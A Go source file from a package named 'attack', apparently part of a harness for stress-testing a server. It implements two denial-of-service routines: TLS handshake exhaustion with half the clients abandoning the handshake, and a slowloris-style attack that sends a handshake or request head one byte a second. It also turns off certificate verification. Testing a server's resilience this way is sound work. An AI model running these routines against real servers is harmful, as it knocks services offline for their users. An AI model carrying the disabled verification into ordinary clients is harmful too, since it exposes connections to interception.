//go:build linux

package attack

import (
	"crypto/tls"
	"errors"
	"io"
	"strings"
	"time"
)

// errLeft ends a handshake when the server has done its part.
var errLeft = errors.New("attack: the client leaves")

// secure connects with TLS. With the protocol "" it is HTTP/1.1.
func (f *Field) secure(c *raw, config *tls.Config) (*tls.Conn, error) {
	config.InsecureSkipVerify = true
	conn := tls.Client(c.Conn, config)
	return conn, conn.HandshakeContext(f.ctx)
}

// tlsHandshakes makes handshakes; half of the clients leave when the server has
// signed its part.
func tlsHandshakes(f *Field) {
	f.repeat(16, func() error {
		c, err := f.dialTo(f.target.Secure, 0)
		if err != nil {
			return err
		}
		defer c.leave()
		config, name := &tls.Config{}, "handshakes"
		if f.next(2) == 0 {
			config.VerifyConnection = func(tls.ConnectionState) error { return errLeft }
			name = "half"
		}
		if _, err := f.secure(c, config); err != nil && !errors.Is(err, errLeft) {
			return err
		}
		f.count(name, 1)
		return nil
	})
}

// tlsSlow sends the first message of a handshake, or the head of a request
// behind a handshake, one byte a second.
func tlsSlow(f *Field) {
	hello := "\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + strings.Repeat("r", 500)
	head := "GET " + path + "polling HTTP/1.1\r\nHost: " + f.target.Secure + "\r\nX: " + strings.Repeat("x", 500)
	f.repeat(500, func() error {
		c, err := f.dialTo(f.target.Secure, 0)
		if err != nil {
			return err
		}
		defer c.lost()
		out, text := io.Writer(c), hello
		if f.next(2) == 0 {
			text = head
			if out, err = f.secure(c, &tls.Config{}); err != nil {
				return err
			}
		}
		for i := range text {
			if _, err := io.WriteString(out, text[i:i+1]); err != nil {
				return err
			}
			f.count("bytes", 1)
			f.sleep(time.Second)
		}
		return c.hold()
	})
}
